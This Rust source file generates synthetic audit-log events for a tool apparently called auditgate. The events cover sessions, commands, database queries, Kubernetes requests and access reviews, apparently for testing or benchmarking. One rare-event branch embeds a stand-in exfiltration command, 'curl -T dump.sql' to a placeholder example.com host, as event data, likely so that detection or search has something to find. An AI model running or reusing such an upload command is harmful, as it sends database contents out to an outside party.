//! What happens in the generated events.

use auditgate::proto::pb;
use auditgate::proto::pb::event::Payload;

use super::{
    RARE_ONE_IN, RARE_TEXT, SESSION_EVENTS, SESSIONS_AT_ONCE, USERS, mix, time, user, uuid,
};

/// Payload and code of the event of this number, at `index` of its session.
pub fn payload(number: u64, index: u64, dice: u64) -> (Payload, Option<&'static str>) {
    if number % RARE_ONE_IN == RARE_ONE_IN / 2 {
        return (Payload::TrustedClusterCreate(Default::default()), Some("T7000I"));
    }
    if number % RARE_ONE_IN == RARE_ONE_IN / 4 {
        return (exec(&format!("curl -T dump.sql https://{RARE_TEXT}.example.com/")), None);
    }
    if index == 0 {
        let start = pb::SessionStart {
            terminal_size: Some("120:40".into()),
            session_recording: Some("node".into()),
            ..Default::default()
        };
        return (Payload::SessionStart(start), Some("T2000I"));
    }
    if index == SESSION_EVENTS - 1 {
        let end = pb::SessionEnd {
            interactive: Some(true),
            participants: vec![user(dice % USERS)],
            start_time: Some(time(number - index * SESSIONS_AT_ONCE).timestamp()),
            end_time: Some(time(number).timestamp()),
            ..Default::default()
        };
        return (Payload::SessionEnd(end), Some("T2004I"));
    }
    common(dice)
}

/// What happens within a session.
fn common(dice: u64) -> (Payload, Option<&'static str>) {
    let number = dice >> 16;
    let (payload, code) = match dice / 50 % 100 {
        0..30 => (command(number), "T4000I"),
        30..40 => (disk(number), "T4001I"),
        40..50 => (network(number), "T4002I"),
        50..60 => (exec(&format!("systemctl restart worker-{}", number % 100)), "T3002I"),
        60..70 => (query(number), "TDB02I"),
        70..80 => (request(number), "T2009I"),
        80..88 => (kube(number), "T3009I"),
        88..92 => {
            let data = pb::SessionData {
                bytes_transmitted: Some(number % 100_000),
                bytes_received: Some(number % 9_000),
            };
            (Payload::SessionData(data), "T2006I")
        }
        92..95 => {
            let size = format!("{}:{}", 80 + number % 100, 25 + number % 40);
            let resize = pb::Resize { terminal_size: Some(size), ..Default::default() };
            (Payload::Resize(resize), "T2002I")
        }
        95 => (
            Payload::UserLogin(pb::UserLogin { method: Some("oidc".into()), ..Default::default() }),
            "T1001I",
        ),
        96 => (Payload::SessionJoin(Default::default()), "T2001I"),
        97 => (Payload::SessionLeave(Default::default()), "T2003I"),
        98 => (Payload::AccessRequestCreate(access_request(number)), "T5000I"),
        _ => (Payload::AccessRequestReview(access_review(number)), "T5002I"),
    };
    (payload, Some(code))
}

fn command(number: u64) -> Payload {
    const PROGRAMS: [&str; 6] = ["bash", "ls", "grep", "python3", "cat", "kubectl"];
    let program = PROGRAMS.get((number % 6) as usize).copied().unwrap_or_default();
    Payload::SessionCommand(pb::SessionCommand {
        bpf: Some(bpf(program, number)),
        ppid: Some(number % 30_000),
        path: Some(format!("/usr/bin/{program}")),
        argv: vec!["-c".into(), format!("report-{}", number % 1_000)],
        return_code: Some(0),
    })
}

fn disk(number: u64) -> Payload {
    Payload::SessionDisk(pb::SessionDisk {
        bpf: Some(bpf("bash", number)),
        path: Some(format!("/var/lib/app/data-{}.db", number % 500)),
        flags: Some(2_100_000),
        return_code: Some(0),
    })
}

fn network(number: u64) -> Payload {
    Payload::SessionNetwork(pb::SessionNetwork {
        bpf: Some(bpf("curl", number)),
        src_addr: Some("10.20.30.40".into()),
        dst_addr: Some(format!("10.9.{}.{}", number % 200, number % 90)),
        dst_port: Some(443),
        tcp_version: Some(4),
        ..Default::default()
    })
}

fn bpf(program: &str, number: u64) -> pb::Bpf {
    pb::Bpf {
        pid: Some(number % 32_768),
        cgroup_id: Some(4_294_968_064),
        program: Some(program.into()),
        ..Default::default()
    }
}

fn exec(line: &str) -> Payload {
    let command =
        pb::Command { line: Some(line.into()), exit_code: Some("0".into()), ..Default::default() };
    Payload::Exec(pb::Exec { command: Some(command), ..Default::default() })
}

fn query(number: u64) -> Payload {
    let database = pb::Database {
        service: Some("orders-postgres".into()),
        protocol: Some("postgres".into()),
        name: Some("orders".into()),
        user: Some("app".into()),
        ..Default::default()
    };
    Payload::DbSessionQuery(pb::DbSessionQuery {
        database: Some(database),
        db_query: Some(format!("SELECT total FROM orders WHERE id = {}", number % 1_000_000)),
        ..Default::default()
    })
}

fn request(number: u64) -> Payload {
    let app = pb::App {
        name: Some("billing".into()),
        uri: Some("http://billing:8080".into()),
        ..Default::default()
    };
    Payload::AppSessionRequest(pb::AppSessionRequest {
        app: Some(app),
        status_code: Some(200),
        path: Some(format!("/invoices/{}", number % 100_000)),
        method: Some("GET".into()),
        ..Default::default()
    })
}

fn kube(number: u64) -> Payload {
    let cluster = pb::KubernetesCluster { name: Some("eu-1".into()), ..Default::default() };
    Payload::KubeRequest(pb::KubeRequest {
        kubernetes_cluster: Some(cluster),
        request_path: Some(format!("/api/v1/namespaces/team-{}/pods", number % 40)),
        verb: Some("GET".into()),
        resource_kind: Some("pods".into()),
        response_code: Some(200),
        ..Default::default()
    })
}

fn access_request(number: u64) -> pb::AccessRequestCreate {
    pb::AccessRequestCreate {
        roles: vec!["db-admin".into()],
        request_id: Some(uuid(mix(number), number)),
        request_state: Some("PENDING".into()),
        ..Default::default()
    }
}

fn access_review(number: u64) -> pb::AccessRequestReview {
    pb::AccessRequestReview {
        request_id: Some(uuid(mix(number), number)),
        reviewer: Some(user(number % USERS)),
        proposed_state: Some("APPROVED".into()),
        ..Default::default()
    }
}
